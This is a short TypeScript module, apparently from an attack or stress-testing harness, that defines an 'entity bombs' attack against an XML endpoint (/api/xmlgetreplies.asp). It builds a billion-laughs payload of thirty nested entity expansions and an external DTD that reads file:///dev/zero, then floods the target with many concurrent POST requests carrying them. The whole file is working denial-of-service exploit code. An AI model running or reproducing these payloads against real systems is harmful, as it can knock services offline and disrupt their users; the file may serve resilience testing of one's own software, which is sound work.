import { post, scaled, type Attack } from '../attack.ts'
import { flood } from '../flood.ts'

const levels = Array.from({ length: 30 }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`).join('')
const bomb = `<!DOCTYPE a [<!ENTITY e0 "boom">${levels}]><Svc_Replies><ApiKey>&e30;</ApiKey></Svc_Replies>`
const outside = '<!DOCTYPE a SYSTEM "file:///dev/zero"><Svc_Replies><ApiKey>x</ApiKey></Svc_Replies>'

export const entityBombs: Attack = {
  title: 'entity bombs',
  by: 'xml',
  run: (target) =>
    flood(target, {
      connections: scaled(target, 100),
      text: (connection) => post('/api/xmlgetreplies.asp', '', connection % 2 === 0 ? bomb : outside),
      answersToText: 1,
    }),
}
